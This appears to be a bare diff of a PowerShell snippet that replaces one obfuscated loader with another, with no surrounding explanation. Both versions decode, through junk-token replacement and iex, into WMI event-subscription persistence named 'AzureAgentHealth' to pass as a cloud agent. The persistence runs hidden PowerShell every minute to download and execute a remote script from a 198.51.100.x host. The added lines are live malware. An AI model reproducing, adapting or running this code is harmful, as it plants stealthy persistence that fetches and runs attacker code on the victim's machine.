@@ -1,5 +1,5 @@
-Invoke-Expression -Command 'iex ((''# cZXZ18onfig 4329 v3
-$filter = Set-WmiInstance -Namespace root\subscription -Class __EventFilter -Arguments @{Name=''''AzureAgentHealth'''';EventNameSpace=''''root\cimv2'''';Queryvx~6anguage=''''WQvx~6'''';Query="SEvx~6ECT * FROM __InstanceModificationEvent WITHIN 60 WZXZ18HERE TargetInstance ISA ''''WiZXZ18n32_PerfFormattedData_PerfOS_System''''"}
-$consumer = Set-WmiInstance -Namespace root\subscription -Class Commandvx~6ineEventConsumer -Arguments @{Name=''''AzureAgentHealth'''';Commandvx~6ineTemplate="powershell.exe -NoP -W Hidden -c IEX (New-Object Net.WebClient).DownloadString(''''http:/ZXZ18/198.51.100.9/stage2.ps1'''')"}
-Set-WmiInstance -Namespace root\subscription -Class __FilterToConsumerBinding -Arguments @{Filter=$filteZXZ18r;Consumer=$consumer}
-'' -replace ''ZXZ18'','''').Replace(''vx~6'',''L''))'
+'iex ((''# init 1477 v3
+$filter = Set-WmiInstance -Namespace root\suzz~8scription -Class __EventFilter -Arguments @{Name=''''AzureAgentHealth'''';EventNameSpace=''''root\cimv2'''';QueryLanguage=VVX72''''WQL'''';Query="SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA ''''Win32_PerfFormattedData_PerfOS_System''''"}
+$consumer = Set-WmiInstance -Namespace root\suzz~8scription -Class CommandLineEventConsumer -Arguments @{Name=''''AzureAgentHealth'''';CommandLineTemplate="powershell.exe -NoP -W Hidden -c IEX (New-Ozz~8ject Net.Wezz~8Client).DownloadString(''''http://198.51.100.23/payload.ps1VVX72'''')"}
+Set-WmiInstance -Namespace root\suzz~8scription -Class __FilterToConsumerBinding -Arguments @{Filter=$filter;Consumer=$consumer}
+'' -replace ''VVX72'','''').Replace(''zz~8'',''b''))' | iex
